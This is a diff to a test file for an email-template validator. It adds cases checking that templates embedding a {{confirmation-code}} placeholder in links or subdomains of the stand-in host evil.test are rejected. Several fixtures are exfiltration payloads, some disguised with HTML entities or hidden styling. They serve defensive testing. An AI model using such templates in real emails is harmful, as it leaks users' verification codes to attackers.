@@ -99,6 +99,8 @@ describe('a template that is saved', () => {
     ['a menu that takes the key along', mjml('x').replace('<mj-text>', '<mj-navbar base-url="https://evil.test/"><mj-navbar-link href="#{{confirmation-code}}">x</mj-navbar-link></mj-navbar><mj-text>'), /would learn the key/],
     ['words that become a link with the key', '<p>https://evil.test/?k={{confirmation-code}}</p>', /^body, as text, line 1, column 1: expected an address below/],
     ['words that become such a link once they are read', '<p>https&#58;&#47;&#47;evil&#46;test&#47;<b>{{confirmation-code}}</b></p>', /^body, as text/],
+    ['words that are hidden and are not', '<p style="display:none;display:block">https://evil.test/{{confirmation-code}}</p>', /^body, as text/],
+    ['a hidden word between those of a link', '<p>https://evil.test/<b style="display:none"> x </b>{{confirmation-code}}</p>', /^body, as text/],
     ['a host that is made of the key', '<p>{{confirmation-code}}.evil.test</p>', /^body, as text/],
     ['a host that is made of the key and more', '<p>{{confirmation-code}}x.evil.test</p>', /^body, as text/],
     ['a host that is made of the key and a tenant’s', '<p>{{confirmation-code}}.{{tenant-domain}}</p>', /^body, as text/],
